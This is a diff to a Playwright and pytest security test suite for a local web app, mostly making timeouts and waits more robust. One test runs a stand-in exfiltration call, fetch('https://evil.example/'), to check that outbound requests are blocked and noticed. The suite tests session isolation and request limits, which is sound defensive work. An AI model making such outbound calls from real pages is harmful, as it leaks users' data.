@@ -19,7 +19,7 @@ from threading import Thread
 import pytest
 from playwright.sync_api import BrowserContext, Page, expect
 
-from driving import PATIENCE, go, open_example
+from driving import go, listening, open_example, reload
 from running_server import RunningServer
 
 KEY = "dGhlIHNhbXBsZSBub25jZQ=="
@@ -30,6 +30,8 @@ UPGRADE = {
     "Sec-WebSocket-Key": KEY,
 }
 SOCKET = "/_nicegui_ws/socket.io/?EIO=4&transport=websocket"
+SECONDS = 60
+"""That an answer may take on a busy machine."""
 SCREENS = ("/", "/table", "/rules", "/protect", "/result", "/compare", "/export")
 
 
@@ -41,7 +43,7 @@ def ask(
     body: bytes = b"",
 ) -> tuple[int, http.client.HTTPMessage, str]:
     """One request with exactly these headers; a handshake that succeeds has status 101."""
-    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=20)
+    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=SECONDS)
     try:
         connection.request(method, path, body or None, dict(headers or {}))
         answer = connection.getresponse()
@@ -142,7 +144,7 @@ def test_another_user_of_the_machine_gains_nothing_by_a_leaked_secret(
     path = server.new_address().removeprefix(server.origin)
 
     def ask_as_nobody(path: str, headers: Mapping[str, str]) -> int:
-        connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=20)
+        connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=SECONDS)
         os.seteuid(65534)
         try:
             connection.connect()
@@ -227,7 +229,7 @@ def test_a_large_body_is_refused_while_it_streams(narrow: RunningServer) -> None
         "Transfer-Encoding: chunked\r\n\r\n"
     )
     chunk = b"10000\r\n" + b"x" * 0x10000 + b"\r\n"
-    with socket.create_connection(("127.0.0.1", narrow.port), timeout=20) as connection:
+    with socket.create_connection(("127.0.0.1", narrow.port), timeout=SECONDS) as connection:
         connection.sendall(head.encode())
         for _ in range(2**20 // 0x10000):
             connection.sendall(chunk)
@@ -247,7 +249,7 @@ def test_only_the_loopback_is_bound(server: RunningServer) -> None:
 
 def test_a_port_in_use_is_an_error_with_a_remedy(server: RunningServer) -> None:
     words = [sys.executable, "-m", "tacita", "app", "--no-browser", "--port", str(server.port)]
-    done = subprocess.run(words, capture_output=True, text=True, timeout=60, check=False)
+    done = subprocess.run(words, capture_output=True, text=True, timeout=SECONDS, check=False)
     assert done.returncode == 1
     assert f"port {server.port}" in done.stderr
     assert "--port" in done.stderr
@@ -262,7 +264,7 @@ def test_a_screen_asks_nobody_else(server: RunningServer, page: Page, outside: l
     answer = page.goto(server.origin + path)
     assert answer is not None
     assert answer.status == 200
-    page.wait_for_function("window.did_handshake")
+    listening(page)
     assert page.evaluate("performance.getEntriesByType('resource').length") > 5
     assert outside == []
 
@@ -272,8 +274,8 @@ def test_what_leaves_the_machine_is_held_back_and_noticed(
 ) -> None:
     """The watch that the other tests rely on."""
     tried = "fetch('https://evil.example/').then(() => 'sent', () => 'held back')"
-    assert page.evaluate(tried) == "held back"
-    page.wait_for_timeout(100)
+    with page.expect_console_message(lambda said: "evil.example" in said.text):
+        assert page.evaluate(tried) == "held back"
     assert outside or faults
     outside.clear()
     faults.clear()
@@ -281,14 +283,12 @@ def test_what_leaves_the_machine_is_held_back_and_noticed(
 
 def test_visitors_do_not_see_each_other(new_page: Callable[[], Page]) -> None:
     one, other = new_page(), new_page()
-    for page in (one, other):
-        page.get_by_test_id("light").wait_for()
     one.get_by_test_id("light").click()
-    one.get_by_test_id("light").get_by_text("Dark").wait_for()
+    expect(one.get_by_test_id("light")).to_have_text("Dark")
     for page in (one, other):
-        page.reload()
-    one.get_by_test_id("light").get_by_text("Dark").wait_for()
-    other.get_by_test_id("light").get_by_text("Auto").wait_for()
+        reload(page)
+    expect(one.get_by_test_id("light")).to_have_text("Dark")
+    expect(other.get_by_test_id("light")).to_have_text("Auto")
 
 
 def test_a_page_answers_its_own_session_only(server: RunningServer, page: Page, own: dict[str, str]) -> None:
@@ -316,13 +316,12 @@ def test_what_is_sent_to_a_page_of_another_session_is_dropped(
     expect(light).to_contain_text("Auto")
     sent: list[str] = []
     page.on("websocket", lambda opened: opened.on("framesent", lambda frame: sent.append(str(frame))))
-    page.reload()
-    page.wait_for_function("window.did_handshake")
+    reload(page)
     light.click()
     expect(light).to_contain_text("Dark")
     click = next(frame for frame in reversed(sent) if '"event"' in frame)
     _emit(server, own, "event", json.loads(click[click.index("[") :])[1])
-    page.wait_for_timeout(300)
+    reload(page)
     expect(light).to_contain_text("Dark")
 
 
@@ -366,9 +365,10 @@ def test_ctrl_c_ends_the_server_in_the_middle_of_a_search(
     server = start_server()
     page = new_context().new_page()
     page.goto(server.first_address)
+    listening(page)
     open_example(page, "thesis-100x120")
     go(page, "protect")
     page.get_by_test_id("run").click()
-    expect(page.get_by_test_id("run-1-phase")).to_have_text(re.compile("branching"), timeout=PATIENCE)
+    expect(page.get_by_test_id("run-1-phase")).to_have_text(re.compile("branching"))
     assert server.stop() == 0
     assert list(server.temporary.iterdir()) == []
